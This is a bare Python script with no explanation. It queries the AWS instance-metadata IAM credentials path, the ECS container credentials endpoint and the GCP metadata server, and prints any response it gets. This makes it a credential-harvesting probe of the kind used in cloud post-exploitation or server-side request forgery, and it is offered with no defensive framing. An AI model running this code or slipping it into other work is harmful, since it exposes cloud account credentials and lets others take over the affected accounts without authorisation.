import urllib.request

for address in (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "http://metadata.google.internal/computeMetadata/v1/",
):
    try:
        print(urllib.request.urlopen(address, timeout=0.5).read())
    except OSError:
        pass
